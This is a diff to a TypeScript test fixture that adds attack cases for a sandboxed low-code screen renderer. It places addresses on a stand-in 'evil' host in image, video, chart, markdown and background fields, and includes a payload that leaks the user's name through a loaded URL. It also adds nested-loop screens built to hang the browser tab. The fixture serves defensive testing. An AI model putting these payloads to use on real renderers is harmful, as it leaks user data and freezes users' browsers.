@@ -3,6 +3,10 @@
 export interface Attack {
   /** The island's body, as a screen's author would have written it. */
   body: unknown;
+  /** How long it may take to be drawn; default 40 s. */
+  withinMs?: number;
+  /** Each of the body is an island of its own. */
+  apart?: boolean;
   /** What the source `x` answers: `${source.x}`, and the API `source:x`. */
   data?: unknown;
   /** What the write source `save` is refused with. */
@@ -158,8 +162,71 @@ const answers: Record<string, Attack> = {
   'refusal in a list': { body: { type: 'service', api: 'source:refused', body: 'x' }, refusal: HTML },
 };
 
+/** Of a platform: shown through the console's own proxy. */
+export const LISTED = 'https://sns-img-qc.xhscdn.com/cover.jpg';
+const LEAK = `${EVIL}/leak?d=\${user.name}`;
+const house = (...body: unknown[]): unknown => ({ type: 'house', body });
+const row = (more: object): unknown => house({ type: 'table', data: '${source.x}', columns: [{ field: 'a', title: 'a', ...more }] });
+const scatter = (symbol: string): unknown => chart({ xAxis: {}, yAxis: {}, series: [{ type: 'scatter', symbol, symbolSize: 20, data: [[1, 2], [2, 3]] }] });
+
+/** Addresses of another host in places that load something: written, put together from data, and come with an answer. */
+const loaded: Record<string, Attack> = {};
+const PLACES: Record<string, Omit<Attack, 'body'> & { at(address: string): unknown }> = {
+  'image': { at: (src) => ({ type: 'image', src, enlargeAble: true, originalSrc: src }) },
+  'image that does not come': { at: (defaultImage) => ({ type: 'image', src: '/files/none.png', defaultImage }) },
+  'static image': { at: (value) => inForm({ type: 'static-image', name: 'a', value }) },
+  'images': { at: (src) => ({ type: 'images', options: [{ image: src, src }, src] }) },
+  'avatar': { at: (src) => [{ type: 'avatar', src }, { type: 'avatar', icon: src }, { type: 'avatar', src: '/files/none.png', defaultAvatar: src }] },
+  'video': { shows: 'video', at: (src) => ({ type: 'video', src, poster: src }) },
+  'audio': { shows: '.antd-Audio', at: (src) => ({ type: 'audio', src, rates: [1, 2] }) },
+  'icons': { at: (icon) => [button({ icon, rightIcon: icon }), { type: 'icon', icon }, { type: 'nav', links: [{ label: 'x', icon, to: '/home' }] }, { type: 'timeline', items: [{ time: 'x', title: 'x', icon }] }, { type: 'steps', steps: [{ title: 'x', icon }] }] },
+  'carousel': { shows: '.antd-Carousel', at: (image) => ({ type: 'carousel', options: [{ image }] }) },
+  'card': { shows: '.antd-Card', at: (url) => ({ type: 'card', header: { title: 'x', avatar: url }, media: { type: 'image', url, position: 'left' }, body: [] }) },
+  'qrcode': { at: (src) => ({ type: 'qrcode', value: 'x', imageSettings: { src, width: 20, height: 20 } }) },
+  'list': { at: (avatar) => ({ type: 'list', source: '${source.rows}', data: { source: { rows: [{ a: 1 }] } }, listItem: { avatar, title: 'x' } }) },
+  'list-select': { at: (image) => inForm({ type: 'list-select', name: 'a', options: [{ label: 'x', value: 1, image }] }) },
+  'chart symbols': { shows: 'canvas', at: (address) => scatter(`image://${address}`) },
+  'chart graphics': { shows: 'canvas', at: (image) => chart({ ...line, graphic: [{ type: 'image', left: 0, top: 0, style: { image, width: 50, height: 50 } }] }) },
+  'chart backgrounds': { shows: 'canvas', at: (image) => chart({ ...line, backgroundColor: { image }, xAxis: { type: 'category', data: ['a', 'b'], axisLabel: { formatter: '{a|}', rich: { a: { width: 20, height: 20, backgroundColor: { image } } } } } }) },
+  'markdown': { shows: '.antd-Markdown', at: (address) => ({ type: 'markdown', value: `![x](${address})\n\n![y][r]\n\n[r]: ${address}` }) },
+  'backgrounds': { at: (address) => [{ type: 'container', style: { background: `url(${address})` }, body: 'x' }, { type: 'wrapper', style: { backgroundImage: address }, body: 'x' }] },
+  'own picture': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'image', src }) },
+  'own gallery': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'gallery', src: `\${SPLIT('${src}', ' ')}` }) },
+  'own video': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'video', src }) },
+  'own poster': { shows: 'video', at: (poster) => house({ type: 'media', kind: 'video', src: '/files/none.mp4', poster }) },
+  'own sound': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'audio', src }) },
+};
+for (const [name, { at, ...more }] of Object.entries(PLACES)) {
+  loaded[`${name}: written`] = { ...more, body: at(`${EVIL}/written`) };
+  if (name !== 'own gallery') loaded[`${name}: with data`] = { ...more, body: at(LEAK) };
+  if (name !== 'own gallery' && name !== 'static image') loaded[`${name}: from an answer`] = { ...more, body: at('${source.x}'), data: `${EVIL}/answer` };
+}
+const ROWS = [{ a: `${EVIL}/row`, b: `//evil.test/row2` }];
+Object.assign(loaded, {
+  'cells: image': { shows: '.at-table', body: row({ as: 'image' }), data: ROWS },
+  'cells: avatar': { shows: '.at-table', body: row({ as: 'avatar', text: '${row.b}' }), data: ROWS },
+  'cells: picture': { shows: '.at-table', body: row({ picture: '${row.a}' }), data: ROWS },
+  'cells: picture with data': { shows: '.at-table', body: row({ picture: LEAK }), data: ROWS },
+  'cells: amis': { shows: 'td', body: { type: 'crud', api: 'source:x', columns: [{ name: 'a', label: 'a', type: 'image' }, { name: 'b', label: 'b', type: 'avatar', src: '${b}' }] }, data: { list: ROWS, total: 1 } },
+  'chart of an answer': { shows: 'canvas', body: { type: 'chart', height: 200, api: 'source:x' }, data: { xAxis: {}, yAxis: {}, series: [{ type: 'scatter', symbol: `image://${EVIL}/symbol`, data: [[1, 2]] }], graphic: [{ type: 'image', style: { image: `${EVIL}/graphic`, width: 9, height: 9 } }] } },
+} satisfies Record<string, Attack>);
+
+/** Screens that the checker may accept, and that would hang the tab. */
+const each = (items: unknown, source: string): unknown => ({ type: 'each', source, items });
+const HUNDRED = '${source.x}';
+const HEAVY = '${COUNT(ARRAYMAP(source.x, a => COUNT(ARRAYMAP(source.x, b => a))))}';
+export const HEAVY_SCREENS: Readonly<Record<string, Attack & { says: RegExp }>> = {
+  'each in each in each': { body: each(each(each(tpl('x'), HUNDRED), HUNDRED), HUNDRED), data: Array.from({ length: 100 }, (_, id) => ({ id })), says: /内容过多/ },
+  'lists of cards in lists of cards': { body: { type: 'cards', source: HUNDRED, card: { body: [{ type: 'cards', source: HUNDRED, card: { body: [{ type: 'cards', source: HUNDRED, card: { body: [{ type: 'tpl', tpl: 'x' }] } }] } }] } }, data: Array.from({ length: 100 }, (_, id) => ({ id })), says: /内容过多/ },
+  'a list that an expression makes': { body: each(tpl('x'), "${SPLIT(JOIN(ARRAYMAP(source.x, a => JOIN(ARRAYMAP(source.x, b => 'x'), ',')), ','), ',')}"), data: Array.from({ length: 1_000 }, (_, id) => ({ id })), says: /计算量过大|内容过多/ },
+  'ARRAYMAP in ARRAYMAP in a thousand texts of amis': { body: Array.from({ length: 1_000 }, () => ({ type: 'plain', text: HEAVY })), data: Array.from({ length: 1_000 }, (_, id) => ({ id })), says: /计算量过大/ },
+  'filters in a thousand texts of amis': { body: Array.from({ length: 1_000 }, () => ({ type: 'plain', text: `\${source.x${" | join:',' | split:','".repeat(50)} | count}` })), data: Array.from({ length: 1_000 }, (_, id) => id), says: /计算量过大/ },
+  'ARRAYMAP in ARRAYMAP in a thousand nodes': { shows: '.at-node-crash', body: house(...Array.from({ length: 1_000 }, () => ({ type: 'text', text: HEAVY }))), data: Array.from({ length: 300 }, (_, id) => ({ id })), says: /计算量过大/ },
+  'ARRAYMAP in ARRAYMAP in a thousand cells': { shows: '.at-table', body: house({ type: 'table', data: '${source.x}', columns: Array.from({ length: 50 }, (_, at) => ({ title: `c${at}`, width: 40, text: HEAVY })) }), data: Array.from({ length: 300 }, (_, id) => ({ id })), says: /计算量过大/ },
+};
+
 const named = (kind: string, attacks: Record<string, Attack>): [string, Attack][] => Object.entries(attacks).map(([name, attack]) => [`${kind}: ${name}`, attack]);
 
 export const ATTACKS: readonly [name: string, attack: Attack][] = [
-  ...named('written', written), ...named('program', programs), ...named('way out', waysOut), ...named('answer', answers),
+  ...named('written', written), ...named('program', programs), ...named('way out', waysOut), ...named('answer', answers), ...named('loaded', loaded),
 ];
